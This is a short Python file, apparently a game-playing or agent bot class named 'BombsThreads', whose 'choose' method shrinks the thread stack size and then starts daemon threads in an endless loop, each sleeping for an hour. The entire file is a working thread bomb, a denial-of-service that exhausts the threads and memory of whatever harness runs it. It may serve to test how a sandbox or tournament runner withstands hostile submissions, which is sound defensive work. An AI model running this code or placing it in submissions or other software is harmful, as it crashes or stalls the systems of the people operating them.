import threading
import time


class BombsThreads:
    def choose(self, view):
        threading.stack_size(32768)
        while True:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
